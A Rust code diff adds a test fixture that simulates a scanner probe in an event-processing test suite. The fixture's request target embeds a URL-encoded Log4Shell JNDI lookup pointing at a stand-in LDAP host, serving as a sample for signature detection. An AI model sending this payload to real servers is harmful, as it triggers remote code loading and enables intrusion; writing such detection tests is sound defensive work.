@@ -42,6 +42,15 @@ pub(super) fn failed_login() -> EventBatch {
     })
 }
 
+/// A request that signatures tell, and that is for a published weakness.
+pub(super) fn probe() -> EventBatch {
+    batch(b"probe", |_, writer| {
+        let target = "/?q=%24%7Bjndi:ldap://203.0.113.9/a%7D";
+        set(writer, &[(Field::Method, "GET"), (Field::Target, target), (Field::Path, "/")]);
+        writer.set(Field::UserAgent, b"Mozilla/5.0 zgrab/0.x");
+    })
+}
+
 /// All that enrichment adds.
 pub(super) fn known_crawler() -> EventBatch {
     batch(b"crawler", |_, writer| {
@@ -241,6 +250,7 @@ pub(super) const CASES: &[Case] = &[
     ("failed_login", failed_login),
     ("proxied_request", proxied_request),
     ("known_crawler", known_crawler),
+    ("probe", probe),
     ("tls_on_the_plain_port", tls_on_the_plain_port),
     ("server_error", server_error),
     ("login_over_ssh", login_over_ssh),
